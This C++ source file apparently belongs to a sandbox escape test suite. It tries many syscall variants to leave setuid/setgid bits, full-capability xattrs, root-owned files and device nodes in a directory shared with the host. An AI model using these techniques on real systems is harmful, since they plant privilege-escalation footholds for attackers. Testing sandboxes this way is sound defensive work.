// Privilege left in files for the host: set-user-id, set-group-id and file capabilities, by every
// call. `directory=` is shared with the host, where the driver looks at what is left.
#include "attempt.h"

#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <unistd.h>

#include <cerrno>

namespace attack {
namespace {

constexpr unsigned modes[] = {04755, 02755, 06755, 04000};

std::string fresh(const std::string& directory) {
  static int count = 0;
  const std::string path = directory + "/f" + std::to_string(::getpid()) + "-" + std::to_string(count++);
  write_file(path, "#!/bin/sh\n", O_WRONLY | O_CREAT, 0755);
  return path;
}

Outcome has_bits(const std::string& path) {
  struct stat status;
  if (::lstat(path.c_str(), &status) != 0) return held();
  return escaped_if((status.st_mode & (S_ISUID | S_ISGID)) != 0, path);
}

void attack_modes(const std::string& directory) {
  for (const unsigned mode : modes) {
    const std::string label = "/" + std::to_string(mode >> 9);
    const auto on_file = [&](const char* name, auto change) {
      attempt(name + label, [&] {
        const std::string path = fresh(directory);
        change(path);
        return has_bits(path);
      });
    };
    const auto on_new = [&](const char* name, auto make) {
      attempt(name + label, [&] {
        const std::string path = fresh(directory) + "-new";
        ::umask(0);
        make(path);
        return has_bits(path);
      });
    };
    on_file("chmod", [&](const std::string& path) { ::chmod(path.c_str(), mode); });
    on_file("fchmod", [&](const std::string& path) { ::fchmod(::open(path.c_str(), O_RDONLY), mode); });
    on_file("fchmodat", [&](const std::string& path) { ::syscall(SYS_fchmodat, AT_FDCWD, path.c_str(), mode); });
    on_file("fchmodat2", [&](const std::string& path) { ::syscall(452, AT_FDCWD, path.c_str(), mode, 0); });
    on_file("fchmodat2-empty", [&](const std::string& path) { ::syscall(452, ::open(path.c_str(), O_RDONLY), "", mode, AT_EMPTY_PATH); });
    on_file("chmod-proc-fd", [&](const std::string& path) {
      const int fd = ::open(path.c_str(), O_PATH);
      ::chmod(("/proc/self/fd/" + std::to_string(fd)).c_str(), mode);
    });
    on_file("chmod-high", [&](const std::string& path) { ::syscall(SYS_chmod, path.c_str(), static_cast<unsigned long>(mode) | 1ul << 32); });
    on_file("chmod-bit16", [&](const std::string& path) { ::syscall(SYS_chmod, path.c_str(), static_cast<unsigned long>(mode) | 0xf0000); });
    on_new("open", [&](const std::string& path) { ::syscall(SYS_open, path.c_str(), O_CREAT | O_WRONLY, mode); });
    on_new("open-tmpfile", [&](const std::string& path) {
      const long fd = ::syscall(SYS_open, directory.c_str(), O_TMPFILE | O_RDWR, mode);
      ::linkat(AT_FDCWD, ("/proc/self/fd/" + std::to_string(fd)).c_str(), AT_FDCWD, path.c_str(), AT_SYMLINK_FOLLOW);
    });
    on_new("openat", [&](const std::string& path) { ::syscall(SYS_openat, AT_FDCWD, path.c_str(), O_CREAT | O_WRONLY, mode); });
    on_new("openat-high", [&](const std::string& path) { ::syscall(SYS_openat, AT_FDCWD, path.c_str(), 1ul << 32 | O_CREAT | O_WRONLY, 1ul << 33 | mode); });
    on_new("openat2", [&](const std::string& path) {
      const unsigned long how[3] = {O_CREAT | O_WRONLY, mode, 0};
      ::syscall(SYS_openat2, AT_FDCWD, path.c_str(), how, sizeof how);
    });
    on_new("creat", [&](const std::string& path) { ::syscall(SYS_creat, path.c_str(), mode); });
    on_new("mknod", [&](const std::string& path) { ::syscall(SYS_mknod, path.c_str(), S_IFREG | mode, 0); });
    on_new("mknodat", [&](const std::string& path) { ::syscall(SYS_mknodat, AT_FDCWD, path.c_str(), S_IFREG | mode, 0); });
    on_new("mkdir", [&](const std::string& path) { ::syscall(SYS_mkdir, path.c_str(), mode); });
    on_new("mkdirat", [&](const std::string& path) { ::syscall(SYS_mkdirat, AT_FDCWD, path.c_str(), mode); });
    on_new("mkdir-chmod", [&](const std::string& path) {
      ::mkdir(path.c_str(), 0777);
      ::chmod(path.c_str(), mode);
    });
  }
}

// vfs_cap_data of version 2 and 3: cap_setuid and all others, effective.
struct Capability {
  unsigned magic;
  unsigned words[4] = {0xffffffff, 0, 0xffffffff, 0};
  unsigned root = 0;
};

Outcome gives_capability(const std::string& path, unsigned magic, std::size_t size, int by) {
  Capability value{magic};
  const char* name = "security.capability";
  switch (by) {
    case 0: ::setxattr(path.c_str(), name, &value, size, 0); break;
    case 1: ::lsetxattr(path.c_str(), name, &value, size, 0); break;
    case 2: ::fsetxattr(::open(path.c_str(), O_RDONLY), name, &value, size, 0); break;
    default: {
      struct { unsigned long value; unsigned size, flags; } arguments{reinterpret_cast<unsigned long>(&value), static_cast<unsigned>(size), 0};
      ::syscall(463, AT_FDCWD, path.c_str(), 0, name, &arguments, sizeof arguments);
    }
  }
  char kept[64];
  const ssize_t n = ::getxattr(path.c_str(), name, kept, sizeof kept);
  // Whether it counts on the host the driver sees there; from inside, any is worth a word.
  return {End::held, n > 0 ? "capability stored: " + std::to_string(n) + " bytes" : ""};
}

void attack_capabilities(const std::string& directory) {
  constexpr unsigned version_2 = 0x02000001, version_3 = 0x03000001;
  constexpr const char* ways[] = {"setxattr", "lsetxattr", "fsetxattr", "setxattrat"};
  for (int by = 0; by < 4; ++by) {
    for (const bool third : {false, true}) {
      const auto body = [&] { return gives_capability(fresh(directory), third ? version_3 : version_2, third ? 24 : 20, by); };
      const std::string label = std::string(ways[by]) + (third ? "/v3" : "/v2");
      attempt(label, body);
      attempt_nested("nested/" + label, body);
    }
  }
}

void attack_owners(const std::string& directory) {
  attempt("chown/root", [&] {
    const std::string path = fresh(directory);
    return escaped_if(::chown(path.c_str(), 0, 0) == 0, "given to root");
  });
  attempt("mknod/device", [&] {
    const std::string path = fresh(directory) + "-device";
    return escaped_if(::mknod(path.c_str(), S_IFBLK | 0666, static_cast<dev_t>(254) << 8) == 0, path);
  });
  attempt_nested("nested/mknod/device", [&] {
    const std::string path = fresh(directory) + "-device";
    return escaped_if(::mknod(path.c_str(), S_IFCHR | 0666, static_cast<dev_t>(1) << 8 | 1) == 0, path);
  });
}

}  // namespace

void suidcap(const Options& options) {
  for (const std::string& directory : options.all("directory")) {
    attack_modes(directory);
    attack_capabilities(directory);
    attack_owners(directory);
  }
}

}  // namespace attack
